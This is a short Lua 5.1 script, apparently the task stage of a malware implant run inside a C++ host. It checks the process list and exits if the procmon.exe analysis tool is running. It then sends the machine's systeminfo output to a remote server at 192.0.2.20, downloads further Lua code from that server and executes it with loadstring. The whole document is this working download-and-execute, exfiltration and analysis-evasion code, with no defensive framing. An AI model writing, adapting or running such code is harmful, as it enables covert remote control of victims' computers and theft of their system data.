-- A task script as a C++ host with an embedded Lua 5.1 would be sent: looks for analysis, asks for work, runs it.
local http = require("socket.http")
local busy = io.popen("tasklist"):read("*a")
if busy:find("procmon.exe", 1, true) then return end
local body = http.request("http://192.0.2.20/bunny/task.lua")
local report = io.popen("systeminfo"):read("*a")
http.request("http://192.0.2.20/bunny/report", report)
local job = loadstring(body)
if job then job() end
